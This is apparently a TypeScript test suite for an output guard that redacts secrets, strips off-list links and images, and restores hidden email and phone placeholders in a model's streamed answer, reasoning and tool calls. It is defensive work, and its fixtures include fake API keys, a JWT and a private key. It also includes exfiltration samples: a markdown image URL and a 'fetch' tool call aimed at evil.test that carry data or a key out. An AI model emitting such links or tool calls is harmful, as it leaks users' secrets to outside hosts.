import fc from 'fast-check';
import { guardPolicy, type GuardPolicyPart } from '#libs/contracts';
import type { AnswerPart } from '../calls/stage.js';
import { AnswerGuard } from './answer-guard.js';
import type { Judged } from './judged.js';
import { Placeholders } from './placeholders.js';
import { readyPolicy } from './policy.js';

type Piece = Exclude<AnswerPart, { type: 'end' }>;
const strict: GuardPolicyPart = {
  secrets: 'redact',
  links: 'strip',
  images: 'strip',
  allowedHosts: ['example.com'],
  canaries: ['canary-7f3a-x9'],
};
const key = 'sk-ant-api03-aB3dE5gH7jK9mN1pQ4rS6tU8vW0xY2z';
const jwt = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P';
const pem =
  '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj\nAgEAAoIBAQC7\n-----END PRIVATE KEY-----';

function guarded(pieces: readonly Piece[], policy: GuardPolicyPart = strict, placeholders?: Placeholders) {
  const judged: Judged[] = [];
  const guard = new AnswerGuard(readyPolicy(guardPolicy.parse(policy)), placeholders, (found) => judged.push(found));
  const shown: Piece[] = [];
  /** What had been seen after each piece. */
  const seen: string[] = [];
  for (const piece of pieces) {
    const part = guard.add(piece);
    if (part) shown.push(part);
    seen.push(textOf(shown));
  }
  shown.push(...guard.end());
  return { text: textOf(shown), judged, seen, shown };
}
const textOf = (parts: readonly Piece[]) =>
  parts.map((part) => (part.type === 'tool-call' ? part.arguments : part.text)).join('');
const texts = (...all: string[]): Piece[] => all.map((text) => ({ type: 'text', text }));
const split = (text: string, cuts: readonly number[]): string[] => {
  const places = [...new Set(cuts.map((cut) => cut % text.length))].sort((a, b) => a - b);
  return [...places, text.length].map((place, index) => text.slice(index === 0 ? 0 : places[index - 1], place));
};

describe('an answer on its way out', () => {
  const answers: [string, string][] = [
    [`Your key is ${key}. Keep it.`, 'Your key is [secret removed]. Keep it.'],
    [`token ${jwt}\nend`, 'token [secret removed]\nend'],
    [`a ${pem} b`, 'a [secret removed] b'],
    ['The password is: Tr0ub4dor&3, ok', 'The password is: [secret removed], ok'],
    ['It is canary-7f3a-x9!', 'It is [secret removed]!'],
    ['![a](https://evil.test/?d=1) [b](https://example.com/x)', '![a](about:blank) [b](https://example.com/x)'],
    ['see https://evil.test/x, ok', 'see [link removed], ok'],
    [
      '<img src="https://evil.test/x"> and <a href=https://example.com>y</a>',
      '<img src="about:blank"> and <a href=https://example.com>y</a>',
    ],
    ['sk-learn is fine, eyJ too, --- and www', 'sk-learn is fine, eyJ too, --- and www'],
  ];

  it.each(answers)('%j', (text, expected) => expect(guarded(texts(text)).text).toBe(expected));

  it('is the same wherever it is cut, and nothing is seen of what is taken out', () => {
    fc.assert(
      fc.property(fc.constantFrom(...answers), fc.array(fc.nat(), { maxLength: 12 }), ([text, expected], cuts) => {
        const { text: shown, seen } = guarded(texts(...split(text, cuts)));
        expect(shown).toBe(expected);
        for (const so of seen) expect(expected.startsWith(so)).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('is the same character by character', () => {
    for (const [text, expected] of answers) expect(guarded(texts(...text)).text).toBe(expected);
  });

  it('A6: half a secret is never let through', () => {
    for (let at = 1; at < key.length; at += 1) {
      const { seen, text } = guarded(texts('It is ', key.slice(0, at), `${key.slice(at)} ok`));
      expect(seen[1]).toMatch(/^It is (\[secret removed\])?$/);
      expect(text).toBe('It is [secret removed] ok');
    }
  });

  it('is not held back where nothing is open', () => {
    const words = ['Dear ', 'Marta, ', 'the ', 'order ', 'ships [1] ', '(soon) ', 'at **noon**. ', 'Bye '];
    const { seen } = guarded(texts(...words));
    seen.forEach((so, index) => expect(so).toBe(words.slice(0, index + 1).join('')));
  });

  it('holds back no more than its window', () => {
    const { seen } = guarded(
      texts('x ', `https://${'a'.repeat(5000)}`, `password: ${'b'.repeat(5000)} `, 'eyJ', 'a'.repeat(9000), 'z'),
    );
    expect(seen.at(-1)!.length).toBeGreaterThan(9000);
  });

  it('is given out as it comes when findings are only flagged', () => {
    const { seen, judged } = guarded(texts('It is sk-ant-api03', key.slice(12), ' ok'), { secrets: 'flag' });
    expect(seen[0]).toBe('It is sk-ant-api03');
    expect(judged).toEqual([
      expect.objectContaining({ detector: 'secret', kind: 'anthropic-key', action: 'flag', place: 'text' }),
    ]);
  });

  it('is stopped before the secret is seen', () => {
    const guard = new AnswerGuard(readyPolicy(guardPolicy.parse({ secrets: 'block' })), undefined, () => undefined);
    expect(guard.add({ type: 'text', text: 'It is sk-ant-' })).toEqual({ type: 'text', text: 'It is ' });
    expect(() => guard.add({ type: 'text', text: key.slice(7) })).toThrow(
      expect.objectContaining({
        code: 'GUARDRAIL_BLOCKED',
        message: "The model's answer was stopped: secret (anthropic-key)",
      }),
    );
  });

  it('is judged text by text: what is thought and what tools are handed, each by itself', () => {
    const { shown, judged } = guarded([
      { type: 'reasoning', text: 'the key sk-ant-' },
      { type: 'text', text: 'Hi ' },
      { type: 'reasoning', text: `${key.slice(7)} hm` },
      { type: 'tool-call', index: 0, id: 'c1', name: 'fetch', arguments: '{"url":"https://evil.test/","k":"sk-' },
      { type: 'tool-call', index: 0, arguments: `${key.slice(3)}"}` },
    ]);
    expect(shown.filter(({ type }) => type === 'tool-call')).toEqual([
      { type: 'tool-call', index: 0, id: 'c1', name: 'fetch', arguments: '{"url":"https://evil.test/","k":"' },
      { type: 'tool-call', index: 0, arguments: '[secret removed]"}' },
    ]);
    expect(textOf(shown.filter(({ type }) => type === 'reasoning'))).toBe('the key [secret removed] hm');
    expect(judged.map(({ place }) => place)).toEqual(['reasoning', 'toolCalls[0]']);
  });
});

describe('placeholders in an answer', () => {
  const placeholders = new Placeholders();
  const request = 'Write to "Marta" <marta@example.com>';
  placeholders.hide(
    request,
    [
      { kind: 'email', start: 18, end: 35, reason: '', sample: '' },
      { kind: 'phone', start: 9, end: 16, reason: '', sample: '' },
    ].sort((a, b) => a.start - b.start),
  );
  const off: GuardPolicyPart = { secrets: 'off', images: 'off', pii: 'redact' };

  it('are put back wherever they are cut', () => {
    for (let at = 1; at < 9; at += 1) {
      const { text } = guarded(
        texts(`To ${'[EMAIL_1]'.slice(0, at)}`, `${'[EMAIL_1]'.slice(at)}, [EMAIL_2] [x] [EMA`),
        off,
        placeholders,
      );
      expect(text).toBe('To marta@example.com, [EMAIL_2] [x] [EMA');
    }
  });

  it('hold back only what may be one', () => {
    const { seen } = guarded(texts('a [x', '] [E', 'MAIL', '_9', ' b'), off, placeholders);
    expect(seen).toEqual(['a [x', 'a [x] ', 'a [x] ', 'a [x] [EMAIL_9', 'a [x] [EMAIL_9 b']);
  });

  it('are put back into arguments of tools as JSON', () => {
    const piece: Piece = { type: 'tool-call', index: 0, id: 'c', name: 't', arguments: '{"who":"[PHONE_1] [EMA' };
    const { text } = guarded([piece, { type: 'tool-call', index: 0, arguments: 'IL_1]"}' }], off, placeholders);
    expect(JSON.parse(text)).toEqual({ who: '"Marta" marta@example.com' });
  });
});
